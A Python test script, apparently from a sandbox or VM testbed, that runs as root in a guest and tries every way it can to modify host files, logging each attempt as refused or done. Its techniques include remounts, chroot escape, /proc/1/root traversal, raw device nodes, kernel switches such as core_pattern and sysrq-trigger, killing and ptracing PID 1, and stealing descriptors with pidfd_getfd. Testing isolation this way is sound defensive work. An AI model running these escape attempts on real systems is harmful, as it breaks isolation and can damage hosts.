# SPDX-License-Identifier: MIT
"""Runs as root in a node and tries to change files of the host, in every way that a file can be changed.

Usage: attack.py SENTINEL. The sentinel is a folder of the host that nodes can see. Prints one line for each try: the
way, and ``refused ERRNO`` or ``done``; what is done may only have changed a copy, which the host checks.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import functools
import itertools
import os
import stat
import sys
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

parts = itertools.count()
libc = ctypes.CDLL(None, use_errno=True)
MS_RDONLY, MS_NODEV, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 1, 4, 32, 4096, 16384, 1 << 18
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
PTRACE_SEIZE, PTRACE_ATTACH = 0x4206, 16
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD, SYS_MOUNT_SETATTR, SYS_OPEN_BY_HANDLE_AT = 434, 438, 442, 304
AT_FDCWD, AT_RECURSIVE, MOUNT_ATTR_RDONLY = -100, 0x8000, 1


def attempt(name: str, action: Callable[[], object]) -> bool:
    """Try, and say in one line what came of it."""
    try:
        action()
    except OSError as error:
        print(f"{name}: refused {errno.errorcode.get(error.errno or 0, error.errno)}", flush=True)
        return False
    print(f"{name}: done", flush=True)
    return True


def call(function: str, *words: object) -> int:
    """Call a function of the C library; an error is an OSError."""
    result = int(getattr(libc, function)(*words))
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def mount(source: str, target: str, kind: str, flags: int, data: str = "") -> None:
    """Mount, as the system call does."""
    call("mount", source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), data.encode())


def files(sentinel: str, label: str) -> None:
    """Try every change of a file, a folder and their names, in a part of the sentinel that nobody has tried yet."""
    where = f"{sentinel}/{next(parts)}"
    file, folder = f"{where}/file", f"{where}/folder"
    for name, action in {
        "open": lambda: _write(file, os.O_WRONLY),
        "append": lambda: _write(file, os.O_WRONLY | os.O_APPEND),
        "truncate": lambda: os.truncate(file, 0),
        "create": lambda: _write(f"{where}/new", os.O_WRONLY | os.O_CREAT),
        "chmod": lambda: os.chmod(file, 0o777),
        "chown": lambda: os.chown(file, 12345, 12345),
        "utime": lambda: os.utime(file, (1, 1)),
        "xattr": lambda: os.setxattr(file, "user.testbed", b"x"),
        "link": lambda: os.link(file, f"{where}/hard"),
        "symlink": lambda: os.symlink("file", f"{where}/soft"),
        "mkdir": lambda: os.mkdir(f"{where}/made"),
        "mknod": lambda: os.mknod(f"{where}/fifo", stat.S_IFIFO | 0o600),
        "rename": lambda: os.rename(file, f"{where}/renamed"),
        "unlink": lambda: os.unlink(f"{where}/victim"),
        "rmdir": lambda: os.rmdir(folder),
        "chmod of the folder": lambda: os.chmod(where, 0o777),
    }.items():
        attempt(f"{label}: {name}", action)


def _write(path: str, flags: int) -> None:
    handle = os.open(path, flags, 0o666)
    try:
        os.write(handle, b"CHANGED BY A GUEST")
    finally:
        os.close(handle)


def mounts(sentinel: str) -> None:
    """Try to make what is mounted writable, and to mount the host's files once more, with other words."""
    points = [line.split()[4] for line in open("/proc/self/mountinfo", encoding="utf-8").read().splitlines()]
    done = 0
    for point in dict.fromkeys(points):
        for flags in (MS_REMOUNT, MS_REMOUNT | MS_BIND):
            with contextlib.suppress(OSError):
                mount("none", point, "", flags)
                done += 1
    print(f"remounts that were accepted: {done}")
    # struct mount_attr of mount_setattr(2): attr_set, attr_clr, propagation, userns_fd.
    attributes = (ctypes.c_uint64 * 4)(0, MOUNT_ATTR_RDONLY, 0, 0)
    attempt(
        "mount_setattr",
        lambda: call("syscall", SYS_MOUNT_SETATTR, AT_FDCWD, b"/", AT_RECURSIVE, attributes, ctypes.c_size_t(32)),
    )
    files(sentinel, "after the remounts")
    os.makedirs("/tmp/m", exist_ok=True)
    for kind, data in (
        ("hostfs", sentinel),
        ("hostfs", "/"),
        ("hostfs", "."),
        ("hostfs", f"//..{sentinel}"),
        ("9p", ""),
    ):
        if attempt(f"mount {kind} {data}", functools.partial(mount, "none", "/tmp/m", kind, 0, data)):
            there = f"/tmp/m{sentinel}" if os.path.isdir(f"/tmp/m{sentinel}") else "/tmp/m"
            files(there, f"{kind} {data}")
            with contextlib.suppress(OSError):
                mount("none", "/tmp/m", "", MS_REMOUNT)
                files(there, f"{kind} {data} remounted")
            call("umount2", b"/tmp/m", 2)


def escapes(sentinel: str) -> None:
    """Try the ways out of the root folder, then change the files there."""
    for root in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root/..", "/lower", "/upper", "/../lower"):
        if os.path.isdir(f"{root}{sentinel}"):
            files(f"{root}{sentinel}", root)
    attempt("chroot", lambda: _chroot(sentinel))
    for pid in (name for name in os.listdir("/proc") if name.isdigit()):
        with contextlib.suppress(OSError):
            for handle in os.listdir(f"/proc/{pid}/fd"):
                _through(f"/proc/{pid}/fd/{handle}", sentinel)


def _chroot(sentinel: str) -> None:
    if os.fork():
        os.wait()
        return
    os.makedirs("/tmp/c", exist_ok=True)
    keep = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/c")
    os.fchdir(keep)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    with contextlib.suppress(OSError):
        files(sentinel, "escaped by chroot")
    os._exit(0)


def _through(handle: str, sentinel: str) -> None:
    """Use a descriptor of another process as a way to the host's files."""
    with contextlib.suppress(OSError):
        if stat.S_ISDIR(os.stat(handle).st_mode) and os.path.isdir(f"{handle}{sentinel}"):
            files(f"{handle}{sentinel}", handle)


def devices() -> None:
    """Try devices that are the machine's own: memory, disks."""
    for name, kind, major, minor in (
        ("mem", stat.S_IFCHR, 1, 1),
        ("port", stat.S_IFCHR, 1, 4),
        ("loop", stat.S_IFBLK, 7, 0),
        ("vda", stat.S_IFBLK, 254, 0),
        ("sda", stat.S_IFBLK, 8, 0),
        ("nvme", stat.S_IFBLK, 259, 0),
    ):
        attempt(f"device {name}", functools.partial(_device, name, kind, major, minor))


def _device(name: str, kind: int, major: int, minor: int) -> None:
    path = f"/{name}.device"
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    os.close(os.open(path, os.O_RDWR))


def machine() -> None:
    """Try switches of the whole machine; each is opened for writing only, never written."""
    for path in (
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/fs/file-max",
        "/sys/power/state",
        "/sys/kernel/uevent_helper",
    ):
        attempt(f"switch {path}", functools.partial(_open_only, path))


def _open_only(path: str) -> None:
    os.close(os.open(path, os.O_WRONLY))


def init() -> None:
    """Try to take PID 1, which speaks with the host: by signals, by ptrace, by its descriptors."""
    for number in (9, 19, 15, 11):
        with contextlib.suppress(OSError):
            os.kill(1, number)
    attempt("ptrace", lambda: call("ptrace", PTRACE_SEIZE, 1, None, None))
    attempt("memory of PID 1", lambda: os.close(os.open("/proc/1/mem", os.O_RDWR)))
    attempt("hostchan", lambda: os.close(os.open("/dev/hostchan", os.O_RDWR)))
    attempt("descriptors of PID 1", _steal)


def _steal() -> None:
    pidfd = call("syscall", SYS_PIDFD_OPEN, 1, 0)
    stolen: Iterator[int] = (_get(pidfd, number) for number in range(3, 40))
    if not any(handle >= 0 for handle in stolen):
        raise OSError(errno.EPERM, "no descriptor could be taken")


def _get(pidfd: int, number: int) -> int:
    return int(libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0))


def main() -> None:
    """Try everything."""
    sentinel = sys.argv[1]
    with open(f"{sentinel}/0/file", encoding="utf-8") as file:
        print(f"the sentinel says: {file.read()!r}")
    files(sentinel, "as it is")
    mounts(sentinel)
    escapes(sentinel)
    devices()
    machine()
    init()
    print("all tried")


main()
